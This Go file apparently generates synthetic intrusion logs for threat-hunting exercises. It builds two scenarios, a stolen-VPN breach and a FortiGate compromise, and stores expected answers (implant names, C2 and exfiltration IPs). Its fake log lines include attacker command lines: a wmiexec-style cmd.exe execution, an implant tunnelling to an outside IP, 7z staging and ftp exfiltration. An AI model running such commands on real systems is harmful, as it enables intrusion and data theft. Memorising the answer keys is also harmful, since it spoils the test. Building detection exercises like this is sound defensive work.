package stranger

import (
	"fmt"
	"time"
)

// 2: stolen VPN credentials, no command lines, FTP
func vpnStolen(o *org) {
	d0 := day(2026, 1, 5)
	jump := o.machine("SKYJMP1.corp.skylark.example", "10.60.2.20", "winlogbeat", "siem/winlogbeat.ndjson")
	pss := o.machine("SKYPSSDB2.corp.skylark.example", "10.60.7.14", "winlogbeat", "siem/winlogbeat.ndjson")
	dc := o.machine("SKYDC3.corp.skylark.example", "10.60.2.3", "winlogbeat", "siem/winlogbeat.ndjson")
	for _, m := range []*machine{jump, pss, dc} {
		m.sysmon = ""
	}
	jump.live(d0, 24, `SKYLARK\ops.hendrik`, "srv")
	pss.live(d0, 24, `SKYLARK\svc_pss`, "srv")
	dc.live(d0, 24, `SKYLARK\ops.hendrik`, "dc")
	vpn := "asa/asa.log"
	users := []string{"m.okafor", "j.lindqvist", "p.ramaswamy", "ops.hendrik"}
	home := map[string]string{"m.okafor": "81.2.69.142", "j.lindqvist": "94.191.12.8", "p.ramaswamy": "49.36.80.11", "ops.hendrik": "212.79.41.7"}
	sess := func(t time.Time, step, user, from, ip string, dur time.Duration) {
		p := "skyasa1 : %ASA-"
		o.put(vpn, t, step, t.Format("Jan 02 2006 15:04:05 ")+p+"6-113039: Group <SKY-RA> User <"+user+"> IP <"+from+"> AnyConnect parent session started.")
		o.put(vpn, t.Add(2*time.Second), step, t.Add(2*time.Second).Format("Jan 02 2006 15:04:05 ")+p+"4-722051: Group <SKY-RA> User <"+user+"> IP <"+from+"> IPv4 Address <"+ip+"> IPv6 address <::> assigned to session")
		e := t.Add(dur)
		o.put(vpn, e, step, e.Format("Jan 02 2006 15:04:05 ")+p+"4-113019: Group = SKY-RA, Username = "+user+", IP = "+from+", Session disconnected. Session Type: SSL, Duration: 1h:30m:10s, Bytes xmt: 812231, Bytes rcv: 331200, Reason: User Requested")
	}
	for d := 0; d < 24; d++ {
		for i, u := range users {
			t := d0.AddDate(0, 0, d).Add(time.Duration(7*3600+i*1800+o.r.Intn(1500)) * time.Second)
			sess(t, "", u, home[u], fmt.Sprintf("10.60.90.%d", 20+i), 5*time.Hour)
			if u == "ops.hendrik" {
				jump.logon(t.Add(5*time.Minute), "", 10, `SKYLARK\ops.hendrik`, "10.60.90.23", "SKYJMP1")
			}
		}
	}
	b := d0.AddDate(0, 0, 17)
	t := clock(b, "22:03:10")
	sess(t, "way-in/vpn", "p.ramaswamy", "185.220.102.8", "10.60.90.77", 3*time.Hour+20*time.Minute)
	t = clock(b, "22:09:31")
	u := `SKYLARK\p.ramaswamy`
	lid := jump.logon(t, "lateral/rdp-jump", 10, u, "10.60.90.77", "SKYJMP1")
	ex := jump.root(`C:\Windows\explorer.exe`, u)
	ex.lid = lid
	jump.root(s32+"userinit.exe", u)
	cmd := jump.root(s32+"userinit.exe", u).runAs(t.Add(8*time.Second), "lateral/rdp-jump", `C:\Windows\explorer.exe`, "", u, lid)
	c := cmd.run(t.Add(60*time.Second), "execution/shell", s32+"cmd.exe", "")
	for i, im := range []string{"whoami.exe", "net.exe", "nltest.exe", "quser.exe", "PING.EXE"} {
		c.run(t.Add(time.Duration(70+i*25)*time.Second), "discovery/"+im, s32+im, "")
	}
	mm := c.run(t.Add(12*time.Minute), "credentials/tool", `C:\Users\p.ramaswamy\Music\m64.exe`, "")
	_ = mm
	c.run(t.Add(15*time.Minute), "lateral/psexec", `C:\Users\p.ramaswamy\Music\psx.exe`, "")
	t = t.Add(15*time.Minute + 2*time.Second)
	dc.security(t, "credentials/ntlm", 4776, kv("PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName", "adm_reszone", "Workstation", "SKYJMP1", "Status", "0x0"))
	l2 := pss.logon(t.Add(time.Second), "lateral/pss", 3, `SKYLARK\adm_reszone`, "10.60.2.20", "SKYJMP1!")
	pss.security(t.Add(time.Second), "lateral/pss", 4672, kv("SubjectUserName", "adm_reszone", "SubjectDomainName", "SKYLARK", "SubjectLogonId", l2, "PrivilegeList", "SeDebugPrivilege"))
	pss.security(t.Add(2*time.Second), "lateral/pss-share", 5145, kv("SubjectUserName", "adm_reszone", "SubjectDomainName", "SKYLARK", "SubjectLogonId", l2, "IpAddress", "10.60.2.20", "IpPort", "50001", "ShareName", `\\*\ADMIN$`, "RelativeTargetName", `kXtqWmPe.exe`, "AccessMask", "0x2"))
	pss.service(t.Add(3*time.Second), "persistence/service", "kXtqWmPe", `%SystemRoot%\kXtqWmPe.exe`)
	sv := pss.root(s32+"services.exe", sysUser)
	im := sv.run(t.Add(4*time.Second), "execution/implant", `C:\Windows\kXtqWmPe.exe`, "")
	c2 := im.run(t.Add(40*time.Second), "execution/shell2", s32+"cmd.exe", "")
	c2.run(t.Add(60*time.Second), "discovery/tasklist.exe", s32+"tasklist.exe", "")
	c2.run(t.Add(4*time.Minute), "collection/expdp", `D:\oracle\19c\bin\expdp.exe`, "")
	c2.run(t.Add(40*time.Minute), "collection/7z", `C:\Windows\Temp\7za.exe`, "")
	c2.run(t.Add(66*time.Minute), "exfil/ftp", s32+"ftp.exe", "")
	z := o.zeek("zeek", false)
	z.live(d0, 24, "10.60.2.20", "10.60.7.14", "10.60.30.41", "10.60.30.42", "10.60.30.43")
	z.dns(t.Add(-2*time.Second), "~dns", "10.60.2.20", "SKYPSSDB2.corp.skylark.example", "A", "10.60.7.14")
	z.conn(t.Add(time.Second), "lateral/pss-conn", "10.60.2.20", "10.60.7.14", 445, "smb", 30, 410222, 8000)
	ft := t.Add(66*time.Minute + 3*time.Second)
	z.conn(ft, "exfil/ftp", "10.60.7.14", "167.99.227.30", 21, "ftp", 2400, 900, 1400)
	z.conn(ft.Add(8*time.Second), "exfil/ftp", "10.60.7.14", "167.99.227.30", 41022, "ftp-data", 2300, 2144000112, 90112)
	for k := 0; k < 60; k++ {
		z.https(t.Add(10*time.Second+time.Duration(k)*5*time.Minute+time.Duration(o.r.Intn(25))*time.Second), "c2/beacon", "10.60.7.14", "157.245.81.9", "api.fleetcdn.net", 0.8, 420+o.r.Intn(30), 260)
	}
	z.dns(t.Add(9*time.Second), "c2/beacon", "10.60.7.14", "api.fleetcdn.net", "A", "157.245.81.9")
	o.starts = map[string]string{"first-alert": "@persistence/service", "c2": "api.fleetcdn.net", "mid": "@lateral/pss", "exfil": "167.99.227.30", "findings": ""}
	o.want.Implant = []string{"kXtqWmPe.exe"}
	o.want.C2 = []string{"api.fleetcdn.net", "157.245.81.9", "167.99.227.30"}
	o.want.WayIn = []string{"way-in/vpn"}
}

// 13: a firewall that broke, an account made on it, SMB, FTP
func fortigate(o *org) {
	d0 := day(2026, 7, 6)
	fg := "fortigate/fg.log"
	l := func(t time.Time, step, rest string) {
		o.put(fg, t, step, fmt.Sprintf(`date=%s time=%s devname="PETREL-FW1" devid="FG200F" eventtime=%d tz="+0000" `, t.Format("2006-01-02"), t.Format("15:04:05"), t.UnixNano())+rest)
	}
	fs := o.machine("PETREL-FILE1", "10.44.5.9", "flat", "win/petrel-file1.jsonl")
	srv := o.machine("PETREL-OPS3", "10.44.5.33", "flat", "win/petrel-ops3.jsonl")
	fs.sysmon, srv.sysmon = "", ""
	fs.cmd4688, srv.cmd4688 = true, true
	fs.live(d0, 20, `PETREL\filesvc`, "srv")
	srv.live(d0, 20, `PETREL\opssvc`, "srv")
	for d := 0; d < 20; d++ {
		for i, u := range []string{"r.silva", "h.tanaka", "g.muller"} {
			t := d0.AddDate(0, 0, d).Add(time.Duration(7*3600+i*900+o.r.Intn(800)) * time.Second)
			ip := []string{"93.104.6.2", "126.33.9.10", "84.44.200.1"}[i]
			l(t, "", `logid="0101039424" type="event" subtype="vpn" level="information" vd="root" logdesc="SSL VPN tunnel up" action="tunnel-up" tunneltype="ssl-tunnel" tunnelid=`+fmt.Sprint(o.r.Intn(1<<30))+` remip=`+ip+` tunnelip=10.212.134.`+fmt.Sprint(200+i)+` user="`+u+`" group="ra-users" msg="SSL tunnel established"`)
			l(t.Add(6*time.Hour), "", `logid="0101039425" type="event" subtype="vpn" level="information" vd="root" logdesc="SSL VPN tunnel down" action="tunnel-down" tunneltype="ssl-tunnel" remip=`+ip+` tunnelip=10.212.134.`+fmt.Sprint(200+i)+` user="`+u+`" duration=21600 sentbyte=81222 rcvdbyte=99122 msg="SSL tunnel shutdown"`)
		}
		l(d0.AddDate(0, 0, d).Add(9*time.Hour), "", `logid="0100032001" type="event" subtype="system" level="information" vd="root" logdesc="Admin login successful" sn="1" user="fwadmin" ui="https(10.44.1.7)" method="https" srcip=10.44.1.7 dstip=10.44.1.1 action="login" status="success" profile="super_admin" msg="Administrator fwadmin logged in successfully from https(10.44.1.7)"`)
	}
	b := d0.AddDate(0, 0, 13)
	a := "194.33.40.217"
	t := clock(b, "01:12:09")
	l(t, "way-in/jsconsole", `logid="0100032001" type="event" subtype="system" level="information" vd="root" logdesc="Admin login successful" sn="9" user="Local_Process_Access" ui="jsconsole" method="jsconsole" srcip=`+a+` dstip=`+a+` action="login" status="success" profile="super_admin" msg="Administrator Local_Process_Access logged in successfully from jsconsole"`)
	l(t.Add(20*time.Second), "way-in/account", `logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="Local_Process_Access" ui="jsconsole" action="Add" cfgtid=3211 cfgpath="user.local" cfgobj="gkx91" cfgattr="type[password]passwd[*]" msg="Add user.local gkx91"`)
	l(t.Add(30*time.Second), "way-in/account", `logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="Local_Process_Access" ui="jsconsole" action="Edit" cfgtid=3212 cfgpath="user.group" cfgobj="ra-users" cfgattr="member[r.silva h.tanaka g.muller gkx91]" msg="Edit user.group ra-users"`)
	t = clock(b.AddDate(0, 0, 2), "02:00:40")
	l(t, "way-in/vpn", `logid="0101039424" type="event" subtype="vpn" level="information" vd="root" logdesc="SSL VPN tunnel up" action="tunnel-up" tunneltype="ssl-tunnel" tunnelid=991122 remip=`+a+` tunnelip=10.212.134.210 user="gkx91" group="ra-users" msg="SSL tunnel established"`)
	for i := 0; i < 12; i++ {
		srv.security(t.Add(4*time.Minute+time.Duration(i)*time.Second), "credentials/spray", 4625, kv("SubjectUserName", "-", "TargetUserName", fmt.Sprintf("user%02d", i), "TargetDomainName", "PETREL", "LogonType", 3, "IpAddress", "10.212.134.210", "IpPort", "50991", "WorkstationName", "KALI", "Status", "0xc000006d", "SubStatus", "0xc000006a"))
	}
	u := `PETREL\opssvc`
	t = t.Add(22 * time.Minute)
	lid := srv.logon(t, "lateral/ops", 3, u, "10.212.134.210", "KALI!")
	srv.security(t, "lateral/ops", 4672, kv("SubjectUserName", "opssvc", "SubjectDomainName", "PETREL", "SubjectLogonId", lid, "PrivilegeList", "SeDebugPrivilege"))
	srv.security(t.Add(time.Second), "lateral/share", 5145, kv("SubjectUserName", "opssvc", "SubjectDomainName", "PETREL", "SubjectLogonId", lid, "IpAddress", "10.212.134.210", "IpPort", "50999", "ShareName", `\\*\ADMIN$`, "RelativeTargetName", "__1720144.51", "AccessMask", "0x3"))
	w := srv.root(s32+`wbem\WmiPrvSE.exe`, sysUser)
	for i, c := range []string{"whoami", "cd", "ipconfig /all", "net user /domain", "net share"} {
		w.runAs(t.Add(time.Duration(2+i*20)*time.Second), "execution/wmiexec-"+fmt.Sprint(i), s32+"cmd.exe", `cmd.exe /Q /c `+c+` 1> \\127.0.0.1\ADMIN$\__1720144.51 2>&1`, u, lid)
	}
	srv.security(t.Add(5*time.Minute), "lateral/share", 5145, kv("SubjectUserName", "opssvc", "SubjectDomainName", "PETREL", "SubjectLogonId", lid, "IpAddress", "10.212.134.210", "IpPort", "50999", "ShareName", `\\*\C$`, "RelativeTargetName", `PerfLogs\rpcsrv.exe`, "AccessMask", "0x2"))
	c := w.runAs(t.Add(6*time.Minute), "execution/implant", s32+"cmd.exe", `cmd.exe /Q /c C:\PerfLogs\rpcsrv.exe -l 0 -r 79.141.165.20:53 1> \\127.0.0.1\ADMIN$\__1720144.51 2>&1`, u, lid)
	im := c.run(t.Add(6*time.Minute+time.Second), "execution/implant", `C:\PerfLogs\rpcsrv.exe`, `C:\PerfLogs\rpcsrv.exe  -l 0 -r 79.141.165.20:53`)
	for k := 0; k < 50; k++ {
		bt := t.Add(6*time.Minute + 5*time.Second + time.Duration(k)*6*time.Minute + time.Duration(o.r.Intn(20))*time.Second)
		l(bt, "c2/beacon", `logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.44.5.33 srcport=`+fmt.Sprint(50000+k)+` srcintf="srv" dstip=79.141.165.20 dstport=53 dstintf="wan1" proto=6 action="close" policyid=4 service="DNS" duration=2 sentbyte=812 rcvdbyte=640`)
	}
	for d := 0; d < 20; d++ {
		for k := 0; k < 12; k++ {
			s := sites[o.r.Intn(len(sites))]
			l(d0.AddDate(0, 0, d).Add(time.Duration(o.r.Intn(80000))*time.Second), "", `logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.44.`+fmt.Sprint(5+o.r.Intn(2))+`.`+fmt.Sprint(30+o.r.Intn(9))+` srcport=51000 srcintf="srv" dstip=`+s[1]+` dstport=443 dstintf="wan1" proto=6 action="close" policyid=4 service="HTTPS" duration=20 sentbyte=`+fmt.Sprint(2000+o.r.Intn(20000))+` rcvdbyte=`+fmt.Sprint(9000+o.r.Intn(200000)))
		}
	}
	t = t.Add(30 * time.Minute)
	x := im.run(t, "lateral/fs", s32+"net.exe", `net use Z: \\PETREL-FILE1\crew /user:PETREL\opssvc *`)
	_ = x
	l2 := fs.logon(t.Add(time.Second), "lateral/fs", 3, u, "10.44.5.33", "PETREL-OPS3!")
	fs.security(t.Add(2*time.Second), "collection/share", 5145, kv("SubjectUserName", "opssvc", "SubjectDomainName", "PETREL", "SubjectLogonId", l2, "IpAddress", "10.44.5.33", "IpPort", "49911", "ShareName", `\\*\crew`, "RelativeTargetName", `licences\2026.xlsx`, "AccessMask", "0x1"))
	im.run(t.Add(4*time.Minute), "collection/7z", `C:\PerfLogs\7zr.exe`, `C:\PerfLogs\7zr.exe a -t7z -v200m C:\PerfLogs\cr.7z Z:\licences`)
	im.run(t.Add(14*time.Minute), "exfil/ftp", s32+"ftp.exe", `ftp -n -s:C:\PerfLogs\f.txt 79.141.165.21`)
	l(t.Add(25*time.Minute), "exfil/traffic", `logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.44.5.33 srcport=55555 srcintf="srv" dstip=79.141.165.21 dstport=21 dstintf="wan1" proto=6 action="close" policyid=4 service="FTP" duration=600 sentbyte=410993021 rcvdbyte=90112`)
	o.starts = map[string]string{"first-alert": "@execution/implant", "c2": "79.141.165.20", "mid": "@lateral/ops", "exfil": "79.141.165.21", "findings": ""}
	o.want.Implant = []string{"rpcsrv.exe"}
	o.want.C2 = []string{"79.141.165.20", "79.141.165.21"}
	o.want.Staged = []string{"cr.7z"}
	o.want.WayIn = []string{"way-in/jsconsole", "way-in/account", "way-in/vpn"}
}
